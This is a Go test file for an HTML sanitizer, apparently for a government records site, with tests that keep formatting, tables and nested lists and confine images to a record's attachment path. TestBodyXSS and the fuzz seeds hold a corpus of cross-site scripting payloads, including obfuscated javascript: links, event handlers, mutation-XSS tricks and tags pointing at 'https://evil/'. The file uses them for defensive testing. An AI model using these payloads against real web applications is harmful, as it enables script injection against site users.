package sanitize

import (
	"net/url"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// allowedAttrs is the allow-list the output must respect, written independently
// of the policy so that a policy mistake shows up here.
var allowedAttrs = map[string][]string{
	"p": {"class"}, "br": nil, "h2": {"class"}, "h3": {"class"}, "h4": {"class"},
	"strong": nil, "b": nil, "em": nil, "i": nil, "u": nil, "ul": nil, "ol": nil, "li": {"class"},
	"blockquote": {"class"}, "table": {"class"}, "caption": nil, "thead": nil, "tbody": nil, "tfoot": nil,
	"tr": nil, "th": {"colspan", "rowspan", "scope", "class"}, "td": {"colspan", "rowspan", "class"},
	"a": {"href", "rel"}, "img": {"src", "alt", "width", "height"},
	"span": {"class"}, "div": {"class"}, "hr": nil, "sub": nil, "sup": nil,
}

// checkSafe parses sanitized output and fails on anything outside the
// allow-list: elements, attributes, URL schemes, image sources, rel.
func checkSafe(t *testing.T, in, out string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(out))
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			break
		}
		switch tt {
		case html.CommentToken, html.DoctypeToken:
			t.Fatalf("Body(%q) = %q: comment or doctype kept", in, out)
		case html.StartTagToken, html.SelfClosingTagToken, html.EndTagToken:
			tok := z.Token()
			attrs, ok := allowedAttrs[tok.Data]
			if !ok {
				t.Fatalf("Body(%q) = %q: element <%s> kept", in, out, tok.Data)
			}
			rel := false
			for _, a := range tok.Attr {
				found := false
				for _, k := range attrs {
					found = found || k == a.Key
				}
				if !found {
					t.Fatalf("Body(%q) = %q: attribute %s on <%s> kept", in, out, a.Key, tok.Data)
				}
				switch a.Key {
				case "href":
					if dangerousURL(a.Val) {
						t.Fatalf("Body(%q) = %q: href %q", in, out, a.Val)
					}
					u, err := url.Parse(a.Val)
					if err != nil {
						t.Fatalf("Body(%q) = %q: bad href %q", in, out, a.Val)
					}
					if s := strings.ToLower(u.Scheme); s != "" && s != "http" && s != "https" && s != "mailto" {
						t.Fatalf("Body(%q) = %q: href scheme %q", in, out, u.Scheme)
					}
				case "src":
					if dangerousURL(a.Val) {
						t.Fatalf("Body(%q) = %q: src %q", in, out, a.Val)
					}
					if !strings.HasPrefix(a.Val, testFiles) || !regexp.MustCompile(`^[0-9a-f]{64}$`).MatchString(strings.TrimPrefix(a.Val, testFiles)) {
						t.Fatalf("Body(%q) = %q: img src %q", in, out, a.Val)
					}
				case "rel":
					rel = a.Val == LinkRel
				case "class":
					for _, c := range strings.Fields(a.Val) {
						if !strings.Contains(" "+ClassNames+" ", " "+c+" ") {
							t.Fatalf("Body(%q) = %q: class %q", in, out, c)
						}
					}
				}
			}
			if tok.Data == "a" && tt != html.EndTagToken && len(tok.Attr) > 0 && !rel {
				t.Fatalf("Body(%q) = %q: link without rel=%q", in, out, LinkRel)
			}
		}
	}
	low := strings.ToLower(out)
	for _, bad := range []string{"<script", "<svg", "<math", "<iframe", "<style", "<object", "<embed", "<form", "<meta", "<base", "<link"} {
		if strings.Contains(low, bad) {
			t.Fatalf("Body(%q) = %q contains %q", in, out, bad)
		}
	}
}

// dangerousURL reads a URL the way a browser does — tabs and newlines
// removed, leading controls and spaces trimmed, scheme case-insensitive — and
// reports a scheme that runs code or embeds content.
func dangerousURL(v string) bool {
	v = strings.Map(func(r rune) rune {
		if r == '\t' || r == '\n' || r == '\r' {
			return -1
		}
		return r
	}, v)
	v = strings.ToLower(strings.TrimLeft(v, "\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f "))
	for _, s := range []string{"javascript:", "vbscript:", "data:", "file:"} {
		if strings.HasPrefix(v, s) {
			return true
		}
	}
	return false
}

func TestBodyXSS(t *testing.T) {
	corpus := []string{
		`<script>alert(1)</script>`,
		`<SCRIPT SRC=//evil/x.js></SCRIPT>`,
		`<img src=x onerror=alert(1)>`,
		`<img src="/attachments/a.png" onload="alert(1)">`,
		`<a href="javascript:alert(1)">x</a>`,
		`<a href="JaVaScRiPt:alert(1)">x</a>`,
		`<a href="jav&#x09;ascript:alert(1)">x</a>`,
		`<a href="jav&#x0A;ascript:alert(1)">x</a>`,
		`<a href=" javascript:alert(1)">x</a>`,
		`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
		`<a href="vbscript:msgbox(1)">x</a>`,
		`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
		`<svg><script>alert(1)</script></svg>`,
		`<svg onload=alert(1)><circle r=1 /></svg>`,
		`<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
		`<style>body{background:url(javascript:alert(1))}</style>`,
		`<p style="background:url(javascript:alert(1))">x</p>`,
		`<div style="width:expression(alert(1))">x</div>`,
		`<iframe src="https://evil/"></iframe>`,
		`<object data="x.swf"></object><embed src="x.swf">`,
		`<form action="https://evil/"><input name=q><button>提交</button></form>`,
		`<meta http-equiv="refresh" content="0;url=https://evil/">`,
		`<base href="https://evil/">`,
		`<link rel=stylesheet href="https://evil/x.css">`,
		`<img src="data:image/png;base64,iVBORw0KGgo=">`,
		`<img src="//evil/x.png">`,
		`<img src="/attachments/../admin/x.png">`,
		`<img src="/attachments/%2e%2e/admin">`,
		`<img src="/etc/passwd">`,
		`<img src="javascript:alert(1)">`,
		`<a href="https://example.org/" target="_blank" rel="opener">x</a>`,
		`<a href="https://example.org/" onclick="alert(1)">x</a>`,
		`<p class="MsoNormal evil">x</p>`,
		`<table><tr><td colspan="2" rowspan="x" onmouseover="alert(1)">x</td></tr></table>`,
		`<div data-x="1" id="top">x</div>`,
		`<<script>script>alert(1)<</script>/script>`,
		`<img """><script>alert(1)</script>">`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`<!--<img src=x onerror=alert(1)>-->`,
		`<template><script>alert(1)</script></template>`,
		`<textarea><script>alert(1)</script></textarea>`,
		`<a href="http://x" style="position:fixed">x</a>`,
		"<a href=\"java\x00script:alert(1)\">x</a>",
	}
	for _, in := range corpus {
		checkSafe(t, in, Body(in))
		checkSafe(t, in, RecordBody(in, testFiles))
	}
}

// testFiles is the address of the attachments of record 42 of unit 610112; checkSafe lets an
// image show only those.
const testFiles = "/610112/records/42/files/"

func TestRecordBodyImages(t *testing.T) {
	h := strings.Repeat("ab12", 16)
	own := `<img src="/610112/records/42/files/` + h + `" alt="图">`
	if got := FilesPath("610112", 42); got != testFiles {
		t.Fatalf("FilesPath: %q", got)
	}
	for _, tc := range []struct{ in, files, want string }{
		{`<p>图：` + own + `</p>`, testFiles, `<p>图：` + own + `</p>`},
		{`<p>图：` + own + `</p>`, "", `<p>图：</p>`},                                          // Body: none
		{`<p>` + own + `</p>`, "/610112/records/43/files/", `<p></p>`},                     // another record's file
		{`<p>` + own + `</p>`, "/610113/records/42/files/", `<p></p>`},                     // another unit's address
		{`<img src="/610112/records/42/files/` + h + `/../x">`, testFiles, ``},             // not a bare hash
		{`<img src="/610112/records/42/files/` + strings.ToUpper(h) + `">`, testFiles, ``}, // not the stored form
		{`<img src="/610112/records/42/files/` + h[:60] + `">`, testFiles, ``},
		{`<img src="https://example.org/` + h + `.png">`, testFiles, ``},               // remote
		{`<img src="//example.org/610112/records/42/files/` + h + `">`, testFiles, ``}, // remote, protocol-relative
		{`<img src="data:image/png;base64,iVBORw0KGgo=">`, testFiles, ``},              // inline data
		{`<img src="/attachments/ab/cdef.png">`, testFiles, ``},
		{`<img src="/610112/records/42/files/` + h + `" onerror="alert(1)" style="x" width="300">`, testFiles,
			`<img src="/610112/records/42/files/` + h + `" width="300">`},
	} {
		if got := RecordBody(tc.in, tc.files); got != tc.want {
			t.Errorf("RecordBody(%q, %q)\n got %q\nwant %q", tc.in, tc.files, got, tc.want)
		}
	}
}

// TestNestedLists: a list inside a list item, as the editor writes a multi-level list pasted
// from Word, is kept with its levels and kinds.
func TestNestedLists(t *testing.T) {
	in := `<ol><li><p>第一条</p><ul><li><p>（一）甲</p><ol><li><p>1. 子项</p></li></ol></li><li><p>（二）乙</p></li></ul></li><li><p>第二条</p></li></ol>`
	if got := Body(in); got != in {
		t.Fatalf("nested list changed:\n got %q\nwant %q", got, in)
	}
	if got := Body(Paragraphs(in)); got != in {
		t.Fatalf("Paragraphs changed a nested list: %q", got)
	}
	if got := Text(in); got != "第一条\n（一）甲\n1. 子项\n（二）乙\n第二条" {
		t.Fatalf("Text: %q", got)
	}
}

func TestBodyDecisions(t *testing.T) {
	tests := []struct{ in, want string }{
		// Protocol-relative links are ordinary links to another site.
		{`<a href="//example.org/x">x</a>`, `<a href="//example.org/x" rel="noopener noreferrer nofollow">x</a>`},
		{`<a href="/records/12#p3" target="_blank">记录</a>`, `<a href="/records/12#p3" rel="noopener noreferrer nofollow">记录</a>`},
		{`<a href="mailto:gk@example.gov.cn">信箱</a>`, `<a href="mailto:gk@example.gov.cn" rel="noopener noreferrer nofollow">信箱</a>`},
		{`<a href="javascript:alert(1)">x</a>`, `x`},
		// No images outside a record body (RecordBody), and never remote ones.
		{`<p><img src="/attachments/ab/cdef.png" alt="图" width="300" height="200" style="border:0">图</p>`, `<p>图</p>`},
		{`<img src="https://example.org/a.png" alt="x">`, ``},
		{`<p class="align-center indent" style="color:red">标题</p>`, `<p class="align-center indent">标题</p>`},
		{`<p class="MsoNormal">正文<o:p></o:p></p>`, `<p>正文</p>`},
		{`<h1>一</h1><h5>五</h5>`, `一五`},
		{`<script>alert(1)</script>正文`, `正文`},
	}
	for _, tt := range tests {
		if got := Body(tt.in); got != tt.want {
			t.Errorf("Body(%q)\n got %q\nwant %q", tt.in, got, tt.want)
		}
	}
}

func TestBodyKeepsContent(t *testing.T) {
	in := `<h2>一、低保审核信息</h2>
<p>根据《社会救助暂行办法》，现将<strong>2024年第一季度</strong>审核结果公示如下：</p>
<table>
<thead><tr><th scope="col">序号</th><th>户主姓名</th><th>保障人数</th></tr></thead>
<tbody>
<tr><td>1</td><td>张三</td><td rowspan="2">3</td></tr>
<tr><td colspan="2">李四</td></tr>
</tbody>
</table>
<ol><li>公示期：7个工作日</li><li>监督电话：<a href="tel:12345">12345</a></li></ol>
<blockquote>H<sub>2</sub>O，10<sup>3</sup></blockquote>
<hr>
<ul><li><em>附件</em>：<a href="/attachments/ab/cd.xlsx">名单.xlsx</a></li></ul>`
	out := Body(in)
	checkSafe(t, in, out)
	for _, s := range []string{
		"<h2>一、低保审核信息</h2>", "<strong>2024年第一季度</strong>", `<th scope="col">序号</th>`,
		`<td rowspan="2">3</td>`, `<td colspan="2">李四</td>`, "<li>公示期：7个工作日</li>",
		"H<sub>2</sub>O，10<sup>3</sup>", "<hr>", "<em>附件</em>",
		`<a href="/attachments/ab/cd.xlsx" rel="noopener noreferrer nofollow">名单.xlsx</a>`,
	} {
		if !strings.Contains(out, s) {
			t.Errorf("Body lost %q:\n%s", s, out)
		}
	}
	// tel: is not an allowed scheme: the link goes, its text stays.
	if !strings.Contains(out, "监督电话：12345") {
		t.Errorf("tel link text lost:\n%s", out)
	}
}

func TestText(t *testing.T) {
	in := `<h2>标题</h2><p>第一段，<b>加粗</b>  文字
继续。</p><p>第二段<br>换行</p><script>var x = "610112199001011234";</script>
<table><tr><th>姓名</th><th>身份证号</th></tr><tr><td>张三</td><td>610112********1234</td></tr></table>
<ul><li>一</li><li>二&nbsp;&amp;三</li></ul>`
	want := "标题\n第一段，加粗 文字 继续。\n第二段\n换行\n姓名\t身份证号\n张三\t610112********1234\n一\n二 &三"
	if got := Text(in); got != want {
		t.Fatalf("Text:\n got %q\nwant %q", got, want)
	}
	if Text("") != "" || Text("<p></p>") != "" {
		t.Fatal("empty body gave text")
	}
}

func FuzzBody(f *testing.F) {
	for _, s := range []string{
		`<a href="javascript:alert(1)">x</a>`, `<img src=x onerror=alert(1)>`, `<p style="x">y</p>`,
		`<table><tr><td colspan=2>x</td></tr></table>`, `<a href="/x">y</a>`, `<svg><script>1</script></svg>`,
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		out := Body(in)
		checkSafe(t, in, out)
		checkSafe(t, in, RecordBody(in, testFiles))
		// Sanitizing is idempotent: published bodies can be re-saved.
		if again := Body(out); again != out {
			t.Fatalf("Body not idempotent: %q -> %q -> %q", in, out, again)
		}
	})
}
